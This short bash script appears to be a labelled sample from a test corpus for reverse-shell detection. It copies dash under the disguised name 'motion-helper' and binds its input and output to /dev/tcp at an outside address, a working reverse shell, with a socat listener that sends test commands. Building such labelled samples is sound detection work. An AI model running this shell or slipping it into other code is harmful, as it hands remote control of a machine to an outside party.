#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=dash far=out ready=out:4445 seconds=20
# A copy of dash under a harmless name, its three descriptors on a socket.
if [ "$1" = out ]; then
	(sleep 2; for line in id "ls /" "cat /etc/hostname" exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4445,reuseaddr
	exit 0
fi
cd "$LAB" || exit 1
cp /bin/dash ./motion-helper
exec bash -c "exec ./motion-helper 0<>/dev/tcp/198.51.100.66/4445 1>&0 2>&0"
